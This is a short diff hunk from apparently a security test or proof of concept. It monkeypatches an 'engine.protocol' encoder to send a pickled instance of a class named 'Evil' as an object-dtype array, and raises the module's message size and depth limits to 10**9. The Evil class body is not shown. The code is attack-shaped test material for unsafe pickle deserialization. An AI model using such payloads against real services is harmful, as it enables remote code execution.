@@ -10,13 +10,7 @@ class Evil:
 
 
 protocol, limits = sys.modules["engine.protocol"], sys.modules["engine.limits"]
-protocol.encode = lambda value, calls=None: {
-    "array": "|O8",
-    "packed": False,
-    "shape": [1],
-    "data": pickle.dumps(Evil()).hex(),
-    "scalar": True,
-}
+protocol.encode = lambda value, calls=None: protocol.Encoded(b'["array", "|O8", [1]]', pickle.dumps(Evil()))
 for module in (protocol, limits):
     module.MESSAGE = module.TEXT = module.ITEMS = module.DEPTH = 10**9
 
